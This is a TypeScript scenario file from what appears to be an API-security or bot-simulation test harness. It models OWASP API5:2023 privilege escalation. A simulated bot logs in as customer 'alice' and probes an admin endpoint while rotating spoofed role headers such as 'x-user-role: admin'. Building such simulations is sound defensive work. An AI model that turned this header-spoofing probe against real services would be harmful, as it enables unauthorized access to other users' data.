/**
 * Privilege escalation with a low-privilege token: the bot holds a customer account (alice's)
 * and calls the admin API with its token, plainly and with headers that claim a role. The OWASP
 * Automated Threats handbook has no entry for this; it is API5:2023 Broken Function Level
 * Authorization in the OWASP API Security Top 10.
 * @see https://owasp.org/API-Security/editions/2023/en/0xa5-broken-function-level-authorization/
 */
import type { Scenario } from '../scenario.js'

/** Simulated milliseconds between requests. */
const PACE = 500
/** Headers some backends wrongly trust to say who the caller is. */
const CLAIMS: readonly Record<string, string>[] = [
  {},
  { 'x-user-role': 'admin' },
  { 'x-user-scope': 'admin_access' },
]

/** API5:2023: a customer's token against the admin API. */
export const privilegeEscalation: Scenario = {
  id: 'privilege-escalation',
  kind: 'bot',
  threat: 'API5:2023',
  title: "privilege escalation: alice's token against the admin API",
  async run(w) {
    const client = w.client(
      w.ips('escalation').draw(),
      w.botProfile((p) => !p.mobile),
    )
    let read = 0
    for (let i = 0; ; i++) {
      if (!client.token) {
        const res = await client.send('POST', '/api/login', {
          json: { username: 'alice', password: 'alice-pw' },
        })
        const token = (res.json() as { token?: unknown } | undefined)?.token
        if (res.status === 200 && typeof token === 'string') client.token = token
        await w.pause(client.token ? PACE : 10 * PACE)
        continue
      }
      const res = await client.send('GET', '/api/admin/users', {
        headers: CLAIMS[i % CLAIMS.length],
      })
      if (res.status === 200 && res.reached !== false) read++
      w.achieved(`${read} admin user lists read`)
      await w.pause(PACE)
    }
  },
}
